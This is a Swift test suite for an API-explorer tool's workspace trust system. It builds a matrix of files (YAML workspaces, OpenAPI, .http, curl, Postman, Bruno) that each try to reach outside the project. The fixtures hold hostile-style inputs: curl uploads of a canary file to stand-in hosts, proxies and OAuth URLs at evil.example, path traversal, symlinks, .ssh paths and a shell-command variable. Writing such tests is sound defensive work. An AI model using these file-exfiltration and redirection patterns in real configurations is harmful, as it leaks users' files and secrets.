// Every way of reaching outside in every file that can try: without the user's agreement nothing leaves, and what is agreed to was named before.

import Catalog
import Foundation
import NetLayer
import TestSupport
import Testing
import Workbench

@testable import Workspace

/// A way of reaching outside, written in one kind of file.
struct OutsideCase: Sendable, CustomTestStringConvertible {
    enum Carrier: String, CaseIterable, Sendable { case workspace, description, http, curl, postman, bruno }

    var way: String
    var carrier: Carrier
    /// The file's text. `@OUT@` stands for a folder beside the workspace's.
    var text: String
    /// What the user must be told; `nil` where the file is refused or the way is not followed at all.
    var need: String?

    var testDescription: String { "\(way) by \(carrier.rawValue)" }

    /// The name of the file that tries.
    var file: String {
        switch carrier {
        case .workspace: "explorer.yaml"
        case .description: "api.json"
        case .http: "api.http"
        case .curl: "api.curl"
        case .postman: "api.postman_collection.json"
        case .bruno: "request.bru"
        }
    }
}

@Suite struct OutsideMatrixTests {
    private static let service = "https://a.example"
    private static let canary = "canary-4711"

    /// The workspace around a description of another kind.
    private static func workspace(_ description: String) -> String {
        "apis:\n  a:\n    environments: { x: [\(service)] }\n    description: ./\(description)\n"
    }

    private static func yaml(_ lines: String) -> String {
        "apis:\n  a:\n    environments: { x: [\(service)] }\n"
            + lines.split(separator: "\n").map { "    \($0)\n" }.joined()
    }

    private static func postman(_ request: String) -> String {
        """
        {"info": {"name": "c", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
         "item": [{"name": "r", "request": \(request)}]}
        """
    }

    private static func bruno(_ url: String, _ more: String) -> String {
        "meta {\n  name: r\n  type: http\n  seq: 1\n}\n\npost {\n  url: \(url)\n  body: \(more.isEmpty ? "none" : more.hasPrefix("body:file") ? "file" : "multipartForm")\n  auth: none\n}\n\n\(more)\n"
    }

    private static func openAPI(_ parameter: String, servers: String = "") -> String {
        """
        {"openapi": "3.1.0", "info": {"title": "t", "version": "1"}, "servers": [{"url": "\(service)"}],
         "paths": {"/r": {"get": {"operationId": "r"\(servers), "parameters": [\(parameter)], "responses": {}}}}}
        """
    }

    private static let workspaces: [(String, String, String?)] = [
        ("variable", "auth: { bearer: \"${env:CANARY}\" }\nrequests: { r: { url: / } }", "reads the variable CANARY"),
        (
            "host of secrets", "auth: { bearer: \"${env:CANARY}\" }\nrequests: { r: { url: / } }",
            "sends secrets to https://a.example"
        ),
        ("file of the folder", "auth: { bearer: \"${file:token}\" }\nrequests: { r: { url: / } }", "reads the file token"),
        ("stored secret", "auth: { bearer: \"${secret:s}\" }\nrequests: { r: { url: / } }", "reads the secret s"),
        (
            "command", "auth: { bearer: \"${command: cat @OUT@/canary}\" }\nrequests: { r: { url: / } }",
            "runs the command cat @OUT@/canary"
        ),
        ("body from a file", "requests: { r: { method: POST, url: /, body: { file: token } } }", "sends the file token"),
        (
            "part from a file", "requests: { r: { method: POST, url: /, body: { multipart: { a: { file: token } } } } }",
            "sends the file token"
        ),
        ("absolute file", "requests: { r: { method: POST, url: /, body: { file: \"@OUT@/canary\" } } }", nil),
        ("file above", "requests: { r: { method: POST, url: /, body: { file: ../out/canary } } }", nil),
        ("file through a link", "requests: { r: { method: POST, url: /, body: { file: link/canary } } }", nil),
        ("socket", "network: { socket: \"@OUT@/s\" }\nrequests: { r: { url: / } }", "connects to the socket @OUT@/s"),
        (
            "proxy", "network: { proxy: \"http://evil.example:1\" }\nrequests: { r: { url: / } }",
            "goes through the proxy http://evil.example:1"
        ),
        ("any certificate", "network: { insecure: true }\nrequests: { r: { url: / } }", "accepts any certificate"),
        (
            "client certificate", "network: { certificate: \"@OUT@/c\" }\nrequests: { r: { url: / } }",
            "shows the client certificate @OUT@/c"
        ),
        ("key", "network: { certificate: c, key: \"@OUT@/k\" }\nrequests: { r: { url: / } }", "uses the key @OUT@/k"),
        ("authorities", "network: { ca: \"@OUT@/ca\" }\nrequests: { r: { url: / } }", "reads the authorities @OUT@/ca"),
        ("foreign host", "requests: { r: { url: \"https://evil.example/x\" } }", "sends requests to https://evil.example"),
        (
            "host in a variable", "variables: { h: evil.example }\nrequests: { r: { url: \"https://${h}/x\" } }",
            "sends requests to https://evil.example"
        ),
        (
            "host of a response", "requests: { r: { url: \"https://${h}/x\", capture: { h: { json: $.h } } } }",
            "sends requests to a host that a response (h) names"
        ),
        (
            "remote description", "description: \"https://evil.example/openapi.json\"\nrequests: { r: { url: / } }",
            "fetches the description from https://evil.example/openapi.json"
        ),
        (
            "description elsewhere", "description: \"@OUT@/api.json\"\nrequests: { r: { url: / } }",
            "reads the description @OUT@/api.json, outside its folder"
        ),
        (
            "token URL",
            "auth: { oauth2: { grant: client-credentials, token-url: \"https://evil.example/t\", client-id: i, client-secret: \"${env:CANARY}\" } }\nrequests: { r: { url: / } }",
            "logs in at https://evil.example/t"
        ),
        (
            "device URL",
            "auth: { oauth2: { grant: device-code, token-url: \"https://a.example/t\", device-url: \"https://evil.example/d\", client-id: i } }\nrequests: { r: { url: / } }",
            "asks for a device code at https://evil.example/d"
        ),
        (
            "authorization URL",
            "auth: { oauth2: { grant: authorization-code, token-url: \"https://a.example/t\", authorization-url: \"https://evil.example/a\", client-id: i } }\nrequests: { r: { url: / } }",
            "opens the browser at https://evil.example/a"
        ),
        (
            "directives", "failover: { directives: [{ url: \"https://evil.example/d\" }] }\nrequests: { r: { url: / } }",
            "takes directives from https://evil.example/d"
        ),
    ]

    private static let descriptions: [(String, String, String?)] = [
        ("file above", openAPI(#"{"$ref": "../out/parameter.json"}"#), "reads the file @OUT@/parameter.json"),
        ("absolute file", openAPI(#"{"$ref": "file://@OUT@/parameter.json"}"#), "reads the file @OUT@/parameter.json"),
        ("file through a link", openAPI(#"{"$ref": "./link/parameter.json"}"#), "reads the file @OUT@/parameter.json"),
        (
            "example of a file",
            openAPI(
                #"{"name": "q", "in": "query", "required": true, "schema": {}, "examples": {"e": {"$ref": "../out/parameter.json#/schema/examples/0"}}}"#
            ), "reads the file @OUT@/parameter.json"
        ),
        ("remote reference", openAPI(#"{"$ref": "https://evil.example/parameter.json"}"#), nil),
        ("foreign host", openAPI("", servers: #", "servers": [{"url": "https://evil.example"}]"#), nil),
    ]

    private static func sends(_ path: String) -> String { "sends the file \(path)" }

    private static let collections: [(String, OutsideCase.Carrier, String, String?)] = [
        ("absolute file", .http, "POST https://a.example/x\n\n< @OUT@/canary\n", sends("@OUT@/canary")),
        ("file above", .http, "POST https://a.example/x\n\n< ../out/canary\n", sends("@OUT@/canary")),
        ("file through a link", .http, "POST https://a.example/x\n\n< ./link/canary\n", sends("@OUT@/canary")),
        ("hidden file", .http, "POST https://a.example/x\n\n< ./.ssh/canary\n", sends("@IN@/.ssh/canary")),
        ("file in a variable", .http, "@f = ../out/canary\nPOST https://a.example/x\n\n< {{f}}\n", sends("@OUT@/canary")),
        (
            "foreign host", .http,
            "GET https://a.example/1\n\n###\nGET https://a.example/2\n\n###\n# @name r\nGET https://evil.example/x\n",
            "sends requests to https://evil.example"
        ),
        (
            "host in a variable", .http,
            "@h = https://evil.example\nGET https://a.example/1\n\n###\nGET https://a.example/2\n\n###\n# @name r\nGET {{h}}/x\n",
            "sends requests to https://evil.example"
        ),
        (
            "foreign port", .http,
            "GET https://a.example/1\n\n###\nGET https://a.example/2\n\n###\n# @name r\nGET https://a.example:444/x\n",
            "sends requests to https://a.example:444"
        ),
        ("absolute file", .curl, "curl -d @@OUT@/canary https://a.example/x\n", sends("@OUT@/canary")),
        ("file above", .curl, "curl --data-binary @../out/canary https://a.example/x\n", sends("@OUT@/canary")),
        ("file through a link", .curl, "curl -T ./link/canary https://a.example/x\n", sends("@OUT@/canary")),
        ("part from a file", .curl, "curl -F f=@../out/canary https://a.example/x\n", sends("@OUT@/canary")),
        ("socket", .curl, "curl --unix-socket @OUT@/s https://a.example/x\n", "connects to the socket @OUT@/s"),
        ("proxy", .curl, "curl -x http://evil.example:1 https://a.example/x\n", "goes through the proxy http://evil.example:1"),
        (
            "other address", .curl, "curl --connect-to a.example:443:evil.example:1 https://a.example/x\n",
            "connects to another address than the host: a.example:443:evil.example:1"
        ),
        ("any certificate", .curl, "curl -k https://a.example/x\n", "accepts any certificate"),
        ("client certificate", .curl, "curl --cert @OUT@/c https://a.example/x\n", "shows the client certificate @OUT@/c"),
        ("key", .curl, "curl --cert c --key @OUT@/k https://a.example/x\n", "uses the key @OUT@/k"),
        ("authorities", .curl, "curl --cacert @OUT@/ca https://a.example/x\n", "reads the authorities @OUT@/ca"),
        (
            "foreign host", .curl, "curl https://a.example/1\ncurl https://a.example/2\ncurl https://evil.example/x\n",
            "sends requests to https://evil.example"
        ),
        (
            "absolute file", .postman,
            postman(
                #"{"method": "POST", "url": "https://a.example/x", "body": {"mode": "file", "file": {"src": "@OUT@/canary"}}}"#),
            sends("@OUT@/canary")
        ),
        (
            "file above", .postman,
            postman(
                #"{"method": "POST", "url": "https://a.example/x", "body": {"mode": "file", "file": {"src": "../out/canary"}}}"#),
            sends("@OUT@/canary")
        ),
        (
            "part from a file", .postman,
            postman(
                #"{"method": "POST", "url": "https://a.example/x", "body": {"mode": "formdata", "formdata": [{"key": "f", "type": "file", "src": "../out/canary"}]}}"#
            ), sends("@OUT@/canary")
        ),
        (
            "file through a link", .postman,
            postman(
                #"{"method": "POST", "url": "https://a.example/x", "body": {"mode": "file", "file": {"src": "link/canary"}}}"#),
            sends("@OUT@/canary")
        ),
        (
            "absolute file", .bruno,
            bruno("https://a.example/x", "body:file {\n  file: @file(@OUT@/canary) @contentType(text/plain)\n}"),
            sends("@OUT@/canary")
        ),
        (
            "file above", .bruno,
            bruno("https://a.example/x", "body:file {\n  file: @file(../out/canary) @contentType(text/plain)\n}"),
            sends("@OUT@/canary")
        ),
        (
            "part from a file", .bruno, bruno("https://a.example/x", "body:multipart-form {\n  f: @file(../out/canary)\n}"),
            sends("@OUT@/canary")
        ),
        (
            "file through a link", .bruno, bruno("https://a.example/x", "body:file {\n  file: @file(link/canary)\n}"),
            sends("@OUT@/canary")
        ),
    ]

    static let all: [OutsideCase] =
        workspaces.map { OutsideCase(way: $0.0, carrier: .workspace, text: yaml($0.1), need: $0.2) }
        + descriptions.map { OutsideCase(way: $0.0, carrier: .description, text: $0.1, need: $0.2) }
        + collections.map { OutsideCase(way: $0.0, carrier: $0.1, text: $0.2, need: $0.3) }

    /// A workspace in a folder, and beside it another one that is not its own.
    private struct Ground {
        let folder: TemporaryFolder
        let trust: WorkspaceTrust
        let environment = ["CANARY": OutsideMatrixTests.canary, "PATH": "/usr/bin:/bin"]
        var inside: String { WorkspaceTrust.resolvedPath(folder.path("in")) }
        var outside: String { WorkspaceTrust.resolvedPath(folder.path("out")) }
        var workspace: String { folder.path("in/explorer.yaml") }

        init(_ given: OutsideCase) throws {
            folder = try TemporaryFolder()
            for name in ["in", "out", "in/.ssh"] {
                try FileManager.default.createDirectory(atPath: folder.path(name), withIntermediateDirectories: false)
            }
            trust = WorkspaceTrust(Paths(environment: ["EXPLORER_STATE_DIR": folder.path("state")]))
            for name in ["out/canary", "in/.ssh/canary", "in/token"] { try folder.file(name, canary) }
            try folder.file("out/parameter.json", #"{"name": "q", "in": "query", "schema": {"examples": ["\#(canary)"]}}"#)
            try FileManager.default.createSymbolicLink(atPath: folder.path("in/link"), withDestinationPath: folder.path("out"))
            if given.carrier != .workspace { try folder.file("in/explorer.yaml", OutsideMatrixTests.workspace(given.file)) }
            try folder.file("in/\(given.file)", filled(given.text))
        }

        func filled(_ text: String) -> String { text.replacing("@OUT@", with: outside).replacing("@IN@", with: inside) }

        func read() throws -> WorkspaceFile { try WorkspaceFile(workspace, environment: environment, trust: trust) }

        /// All that the user is shown.
        func needs(_ file: WorkspaceFile) -> [TrustNeed] {
            guard case .file(let path)? = file.apis[0].description else { return file.needs }
            return (file.needs + DescriptionNeeds.findReferences(of: path, file.rules(for: file.apis[0]))).inOrder
        }

        /// What goes out when everything that the files name is sent.
        func sent(_ file: WorkspaceFile) async -> [WireRequest] {
            let transport = ScriptedTransport { _ in
                ScriptedTransport.Step.answer(200, body: Array(#"{"h": "evil.example"}"#.utf8))
            }
            let client = NetClient(transport: transport)
            let api = file.apis[0]
            for request in api.work.requests {
                var expansion = VariableExpansion(api.variables())
                guard let references = try? expansion.references(of: request.texts) else { continue }
                guard let values = try? file.externalValues.values(of: references) else { continue }
                expansion.externalValues = values
                expansion.capture("h", .plain("evil.example"))
                guard let plan = try? RequestDraft(request, &expansion)?.plan else { continue }
                _ = try? await client.send(Endpoint(plan), on: api.makePool())
            }
            if case .file(let path)? = api.description,
                let description = try? CollectionReading.readDescription(path, file.rules(for: api))
            {
                for summary in description.endpoints {
                    guard let saved = description.operation(summary.index)?.saved else { continue }
                    _ = try? await client.send(Endpoint(saved.makePlan(for: summary).plan), on: api.makePool())
                }
            }
            return transport.requests
        }
    }

    /// Anything of a request that is not the workspace's own.
    private static func isOutside(_ request: WireRequest) -> Bool {
        let body = (try? bytes(of: request.body)) ?? []
        let text =
            "\(request.url.revealed) \(request.headers.fields.map { "\($0.name): \($0.value.revealed)" }) "
            + String(decoding: body, as: UTF8.self)
        return text.contains(canary) || request.url.origin != URI(service).origin || request.connection != ConnectionOptions()
    }

    private static func bytes(of body: WireBody) throws -> [UInt8] {
        switch body {
        case .none: []
        case .bytes(let bytes): bytes
        case .stream(let source): try source.collected()
        case .sequence: []
        }
    }

    @Test("without agreement nothing leaves; with it, what leaves was named", arguments: all)
    func ways(_ given: OutsideCase) async throws {
        let ground = try Ground(given)
        let stranger: WorkspaceFile
        do {
            stranger = try ground.read()
        } catch is WorkspaceError {
            #expect(given.need == nil, "refused where it should ask")
            return
        }
        let needs = ground.needs(stranger)
        for request in await ground.sent(stranger) { #expect(!Self.isOutside(request), "left without agreement: \(request.url)") }
        guard let need = given.need.map(ground.filled) else { return }
        #expect(needs.contains { $0.text == need }, "\(needs.map(\.text))")
        #expect(stranger.needs.isEmpty || !stranger.openNeeds.isEmpty)

        try ground.trust.storeAgreement(needs, for: ground.workspace)
        let trusted = try ground.read()
        #expect(trusted.openNeeds.isEmpty, "\(trusted.openNeeds.map(\.text))")
        for request in await ground.sent(trusted) where request.url.origin != URI(Self.service).origin {
            #expect(
                needs.contains { $0.text.contains(request.url.shownOrigin) || $0.text.contains("a response") }, "\(request.url)")
        }
        if needs.contains(where: { $0.kind == .sentFile }) {
            #expect(
                await ground.sent(trusted).contains { (try? Self.bytes(of: $0.body))?.count ?? 0 > 0 }, "the file is sent now")
        }
    }

    @Test func theMatrixIsAsLargeAsItShouldBe() {
        #expect(Set(Self.all.map(\.way)).count >= 20, "\(Set(Self.all.map(\.way)).count) ways")
        #expect(Set(Self.all.map(\.carrier)).count == 6)
    }

    @Test func aLinkThatIsChangedAfterwardsLeadsNowhere() async throws {
        let ground = try Ground(OutsideCase(way: "", carrier: .http, text: "POST https://a.example/x\n\n< ./f\n", need: nil))
        try ground.folder.file("in/f", "own")
        let file = try ground.read()
        let own = await ground.sent(file)
        #expect(own.count == 1 && !Self.isOutside(own[0]))
        try FileManager.default.removeItem(atPath: ground.folder.path("in/f"))
        try FileManager.default.createSymbolicLink(
            atPath: ground.folder.path("in/f"), withDestinationPath: ground.folder.path("out/canary"))
        let description = try #require(
            try CollectionReading.readDescription(ground.folder.path("in/api.http"), file.rules(for: file.apis[0])))
        let plan = try #require(description.operation(0)?.saved).makePlan(for: description.endpoints[0]).plan
        #expect(throws: NetError.self, "the file is compared when it is opened") {
            try RequestGenerator().request(for: plan, on: file.apis[0].services[0].standing(in: "x"))
        }
    }
}
